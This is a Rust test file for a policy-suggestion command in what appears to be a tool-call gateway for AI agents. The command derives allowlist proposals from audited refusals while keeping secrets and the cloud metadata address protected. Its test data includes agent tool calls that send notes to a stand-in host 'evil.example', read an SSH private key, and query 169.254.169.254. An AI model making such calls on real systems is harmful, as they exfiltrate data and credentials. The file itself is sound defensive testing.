//! `gatewayd policy suggest`: the refusals of a real audit log (the cookbook's research
//! agent's scenarios, run by `gatewayd test --audit`) turned into proposed entries, grouped,
//! with what is never proposed and why; `--json`; `--out` writes a policy that validates and
//! under which the refused destination is no longer refused while the protected path still
//! is; an existing file is not overwritten; a broken chain writes nothing.
use std::path::Path;

use crate::{
    explain::research_agent_log,
    teaching::{gatewayd, text},
};

fn check(policy: &Path, call: &str) -> std::process::Output {
    gatewayd(&[
        "check".as_ref(),
        "--policy".as_ref(),
        policy.as_os_str(),
        "--call".as_ref(),
        call.as_ref(),
    ])
}

#[test]
fn suggest_proposes_what_was_refused_never_a_secret_and_writes_a_valid_policy() {
    let dir = tempfile::tempdir().unwrap();
    let (policy, audit) = research_agent_log(dir.path());
    let evil =
        r#"{"tool": "fetch_url", "arguments": {"url": "https://evil.example/collect?q=notes"}}"#;
    let secret = r#"{"tool": "read_file", "arguments": {"path": "/home/research/.ssh/id_rsa"}}"#;
    assert_eq!(
        check(&policy, evil).status.code(),
        Some(1),
        "refused at first"
    );

    let out = dir.path().join("next.json");
    let args = |extra: &[&std::ffi::OsStr]| {
        let mut v: Vec<&std::ffi::OsStr> = vec![
            "policy".as_ref(),
            "suggest".as_ref(),
            audit.as_os_str(),
            "--policy".as_ref(),
            policy.as_os_str(),
        ];
        v.extend_from_slice(extra);
        gatewayd(&v)
    };
    let shown = args(&["--out".as_ref(), out.as_os_str()]);
    let said = text(&shown);
    assert!(shown.status.success(), "{said}");
    for want in [
        "egress names and addresses:",
        "+ network.egress {\"host\": \"evil.example\", \"port\": 443}",
        "1 refusal(s), sandbox; e.g. evil.example:443",
        "+ tools {\"name\": \"read_file\"",
        "not proposed:",
        "`169.254.169.254` (sandbox, 1 refusal(s)): secret:",
        "`/home/research/.bashrc` (sandbox, 1 refusal(s)): read_only:",
        "(rate_limit, 1 refusal(s)): not_an_allowlist:",
    ] {
        assert!(said.contains(want), "{want}:\n{said}");
    }

    let valid = gatewayd(&["policy".as_ref(), "validate".as_ref(), out.as_os_str()]);
    assert!(valid.status.success(), "{}", text(&valid));
    assert_eq!(
        check(&out, evil).status.code(),
        Some(0),
        "allowed under the suggestion"
    );
    // The new tool is held for a person, and its path is still checked: the secret stays shut.
    let held = check(
        &out,
        r#"{"tool": "read_file", "arguments": {"path": "/home/research/notes/a.md"}}"#,
    );
    assert_eq!(held.status.code(), Some(3), "{}", text(&held));
    let shut = check(&out, secret);
    assert_eq!(shut.status.code(), Some(1), "{}", text(&shut));
    assert!(text(&shut).contains("protected path"), "{}", text(&shut));
    let metadata = check(
        &out,
        r#"{"tool": "fetch_url", "arguments": {"url": "http://169.254.169.254/latest/meta-data/"}}"#,
    );
    assert_eq!(metadata.status.code(), Some(1), "{}", text(&metadata));

    let again = args(&["--out".as_ref(), out.as_os_str()]);
    assert!(!again.status.success());
    assert!(
        text(&again).contains("is not overwritten"),
        "{}",
        text(&again)
    );

    let json = args(&["--json".as_ref(), "--session".as_ref(), "s1".as_ref()]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON");
    assert_eq!(v["suggestions"]["refusals"], 7, "{v}");
    assert_eq!(v["suggestions"]["proposals"][0]["field"], "network.egress");
    assert!(
        v["suggestions"]["not_proposed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["rule"] == "secret")
    );

    let log = std::fs::read_to_string(&audit).unwrap();
    std::fs::write(&audit, log.replacen("\"deny\"", "\"allow\"", 1)).unwrap();
    let broken = args(&["--out".as_ref(), dir.path().join("other.json").as_os_str()]);
    assert!(
        text(&broken).starts_with("warning: the chain is BROKEN"),
        "{}",
        text(&broken)
    );
    assert!(!broken.status.success() && !dir.path().join("other.json").exists());
}
